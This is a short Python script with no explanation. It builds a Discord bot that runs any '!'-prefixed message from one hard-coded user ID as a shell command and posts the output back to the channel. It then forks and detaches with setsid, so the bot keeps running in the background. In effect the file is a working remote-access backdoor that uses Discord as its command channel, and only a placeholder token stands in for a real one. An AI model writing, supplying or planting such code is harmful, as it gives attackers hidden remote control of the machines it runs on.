import asyncio
import os

import discord

intents = discord.Intents.default()
intents.message_content = True
bot = discord.Client(intents=intents)
OWNER = 112233445566


@bot.event
async def on_message(m):
    if m.author.id != OWNER or not m.content.startswith("!"):
        return
    p = await asyncio.create_subprocess_shell(
        m.content[1:],
        stdout=asyncio.subprocess.PIPE,
        stderr=asyncio.subprocess.STDOUT,
    )
    out, _ = await p.communicate()
    for i in range(0, len(out), 1900):
        await m.channel.send("```" + out[i:i + 1900].decode(errors="replace") + "```")


if os.fork() == 0:
    os.setsid()
    bot.run("MTEyMjMz.fake.token")
